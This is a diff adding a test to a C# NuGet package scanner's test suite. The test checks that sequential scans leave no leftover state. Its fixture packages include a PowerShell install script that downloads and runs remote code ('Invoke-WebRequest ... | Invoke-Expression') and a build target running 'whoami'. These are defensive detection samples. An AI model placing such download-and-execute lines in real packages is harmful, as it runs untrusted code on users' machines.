@@ -33,6 +33,25 @@ public sealed class ScannerTests
     }
 
     [Fact]
+    public void What_was_scanned_before_leaves_nothing_behind()
+    {
+        // Large enough that the tables of the first package are what the others are written over.
+        var large = CSharpSample.Compile(string.Concat(Enumerable.Range(0, 400).Select(number => $"public class C{number} {{ public string M(string a) => System.IO.File.ReadAllText(a + \"{number}\"); }}")));
+        NupkgBuilder[] packages =
+        [
+            new NupkgBuilder().Add("lib/net8.0/a.dll", large).Add("lib/net6.0/b.dll", Listener),
+            new NupkgBuilder().Add("lib/net8.0/a.dll", Listener).Add("build/a.targets", "<Project><Target Name=\"T\"><Exec Command=\"whoami\" /></Target></Project>"),
+            new NupkgBuilder().Add("tools/install.ps1", "Invoke-WebRequest https://a.example/x | Invoke-Expression"),
+        ];
+        var fresh = packages.Select(package => Json(new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" }).Scan(new PackageFile("a.nupkg", "a.nupkg", package.Build()), TestContext.Current.CancellationToken))).ToArray();
+        var scanner = new Scanner(new ScanOptions { Rules = EmbeddedRules.Load(), ToolVersion = "test" });
+
+        var reports = new[] { 0, 1, 2, 1, 0, 2, 0 }.Select(number => (number, Report: scanner.Scan(new PackageFile("a.nupkg", "a.nupkg", packages[number].Build()), TestContext.Current.CancellationToken))).ToArray();
+
+        Assert.All(reports, scanned => Assert.Equal(fresh[scanned.number], Json(scanned.Report)));
+    }
+
+    [Fact]
     public void Equal_content_is_read_once_and_reported_for_every_copy()
     {
         var report = Scan(new NupkgBuilder().Add("lib/net8.0/a.dll", Listener).Add("lib/net6.0/a.dll", Listener));
